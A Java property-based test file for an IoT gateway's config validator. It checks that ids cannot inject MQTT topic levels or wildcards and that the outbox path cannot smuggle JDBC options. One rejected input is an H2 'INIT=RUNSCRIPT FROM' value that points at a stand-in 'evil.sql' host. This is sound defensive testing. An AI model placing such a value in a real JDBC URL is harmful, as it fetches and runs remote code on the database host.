package org.iotgateway.config;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.StringLength;

/**
 * Ids end up in MQTT topics and the outbox path in a JDBC URL: nothing in a config may inject a
 * topic level, a wildcard, a control character or a JDBC option.
 */
class InjectionTest {
    // jqwik runs these, and it does not inject JUnit's @TempDir.
    final Path dir = tempDir();

    private static Path tempDir() {
        try {
            Path d = Files.createTempDirectory("injection-test");
            d.toFile().deleteOnExit();
            return d;
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    static String config(String gateway, String sensor, String channel, String outbox) {
        return """
                gateway: {id: "%s"}
                outbox: {path: "%s"}
                sensors:
                  - id: "%s"
                    driver: simulated
                    channels: [{id: "%s"}]
                """.formatted(gateway, outbox, sensor, channel);
    }

    @Example
    void topicWildcardsLevelsAndControlCharactersAreRefusedInEveryId() throws Exception {
        for (String bad : new String[] {"a+b", "a#", "#", "+", "a/b", "../x", "a\\u0000b", "a\\tb", "a b", "-lead", ""}) {
            ConfigFiles files = new ConfigFiles(dir);
            assertThat(files.problems(config(bad, "s", "c", "data/o"))).as("gateway id " + bad)
                    .anySatisfy(p -> assertThat(p).contains("'id' must be"));
            assertThat(files.problems(config("g", bad, "c", "data/o"))).as("sensor id " + bad)
                    .anySatisfy(p -> assertThat(p).contains("'id' must be"));
            assertThat(files.problems(config("g", "s", bad, "data/o"))).as("channel id " + bad)
                    .anySatisfy(p -> assertThat(p).contains("'id' must be"));
        }
    }

    @Example
    void theOutboxPathCannotCarryJdbcOptions() throws Exception {
        for (String bad : new String[] {"data/o;INIT=RUNSCRIPT FROM 'http://x/evil.sql'", "data/o;MODE=MySQL",
                "x;AUTO_SERVER=TRUE", "data/o=1"}) {
            assertThat(new ConfigFiles(dir).problems(config("g", "s", "c", bad))).as(bad)
                    .anySatisfy(p -> assertThat(p).contains("'path' must be a plain file path"));
        }
    }

    /** Whatever an id holds, either it is refused or it is a single, wildcard-free topic level. */
    @Property(tries = 300)
    void anyAcceptedIdIsASafeTopicLevel(@ForAll @StringLength(max = 70) String id) throws Exception {
        String quoted = id.replace("\\", "\\\\").replace("\"", "\\\"");
        ConfigFiles files = new ConfigFiles(dir);
        if (files.problems(config("g", quoted, "c", "data/o")).isEmpty()) {
            assertThat(id).doesNotContain("/", "+", "#").matches("[\\x21-\\x7e]+");
        }
    }
}
